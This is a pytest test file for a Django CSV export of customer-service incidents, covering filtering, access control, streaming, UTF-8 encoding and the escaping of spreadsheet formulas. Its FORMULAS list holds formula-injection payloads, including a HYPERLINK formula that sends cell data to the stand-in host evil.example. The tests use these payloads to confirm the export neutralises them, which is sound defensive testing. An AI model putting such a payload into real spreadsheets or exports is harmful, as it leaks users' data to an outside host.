import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse

from insights import export
from tests import factories

pytestmark = pytest.mark.django_db

UTC = datetime.timezone.utc
AT = datetime.datetime(2026, 3, 4, 10, tzinfo=UTC)


def read_csv(response):
    assert isinstance(response, StreamingHttpResponse)
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_the_export_streams_the_filtered_incidents_with_their_steps(client, build, manager, location, frontline):
    done = build(at=AT, location=location, owner=frontline, apology=2, fix=15, wrap_up=60, outcome="champion",
                 gesture_cost="20", busyness="peak")
    build(at=AT + datetime.timedelta(hours=1), location=location, owner=frontline, busyness="quiet")
    client.force_login(manager)
    response = client.get("/manage/export.csv?start=2026-03-01&end=2026-03-07&busyness=peak")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    assert len(rows) == 1
    row = rows[0]
    assert row["reference"] == done.reference
    assert row["apology"] == "I'm so sorry." and row["apology_accepted"] == "False"
    assert row["fix"] == "New soup" and row["root_cause"] == "Kitchen"
    assert row["outcome"] == "champion" and row["gesture_cost"] == "20.00"
    assert row["logged_at"] == "2026-03-04T10:00:00+00:00"


def test_the_export_holds_only_my_locations(client, build, manager, other_location, organization):
    stranger = factories.UserFactory(organization=organization, locations=[other_location])
    build(at=AT, location=other_location, owner=stranger)
    client.force_login(manager)
    assert read_csv(client.get("/manage/export.csv?start=2026-03-01&end=2026-03-07")) == []


def test_frontline_staff_cannot_export(client, frontline):
    client.force_login(frontline)
    assert client.get("/manage/export.csv").status_code == 403


def test_the_export_reads_in_chunks_with_a_fixed_number_of_queries(client, build, manager, location, frontline,
                                                                   django_assert_max_num_queries):
    for hour in range(5):
        build(at=AT + datetime.timedelta(hours=hour), location=location, owner=frontline, apology=1, fix=3)
    client.force_login(manager)
    with django_assert_max_num_queries(8):
        rows = read_csv(client.get("/manage/export.csv?start=2026-03-01&end=2026-03-07"))
    assert len(rows) == 5


FORMULAS = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Refund\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_text_that_starts_like_a_formula_reaches_the_spreadsheet_as_text(client, build, manager, location,
                                                                         frontline):
    for hour, name in enumerate(FORMULAS):
        customer = factories.CustomerFactory(organization=location.organization, name=name)
        build(at=AT + datetime.timedelta(hours=hour), location=location, owner=frontline, customer=customer)
    client.force_login(manager)
    rows = read_csv(client.get("/manage/export.csv?start=2026-03-01&end=2026-03-07"))
    assert [row["customer"] for row in rows] == ["'" + name for name in FORMULAS]


def test_text_with_a_formula_character_further_in_is_left_alone(client, build, manager, location, frontline):
    customer = factories.CustomerFactory(organization=location.organization, name="Zoë Smith-Jones, =1+1")
    build(at=AT, location=location, owner=frontline, customer=customer, summary="Cold soup, -2 stars @ table 4")
    client.force_login(manager)
    [row] = read_csv(client.get("/manage/export.csv?start=2026-03-01&end=2026-03-07"))
    assert row["customer"] == "Zoë Smith-Jones, =1+1"
    assert row["summary"] == "Cold soup, -2 stars @ table 4"


def test_numbers_the_export_writes_itself_stay_numbers_a_spreadsheet_can_add_up():
    assert export.spreadsheet_cell(Decimal("-8")) == "-8.00"
    assert export.spreadsheet_cell(3) == 3
    assert export.spreadsheet_cell(datetime.datetime(2026, 3, 4, 10, tzinfo=UTC)) == "2026-03-04T10:00:00+00:00"
    # The same characters typed into a text field are someone's input, not the export's number.
    assert export.spreadsheet_cell("-8.00") == "'-8.00"


def test_the_export_starts_with_one_byte_order_mark_so_excel_reads_it_as_utf8(client, build, manager, location,
                                                                              frontline):
    for hour in range(3):
        customer = factories.CustomerFactory(organization=location.organization, name=f"Zoë {hour}")
        build(at=AT + datetime.timedelta(hours=hour), location=location, owner=frontline, customer=customer)
    client.force_login(manager)
    response = client.get("/manage/export.csv?start=2026-03-01&end=2026-03-07")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    chunks = list(response.streaming_content)
    assert len(chunks) == 4  # the header and three rows, each streamed on its own
    body = b"".join(chunks)
    assert body.startswith(b"\xef\xbb\xbfreference,")
    assert body.count("\ufeff".encode()) == 1
    assert "Zoë 2".encode() in body
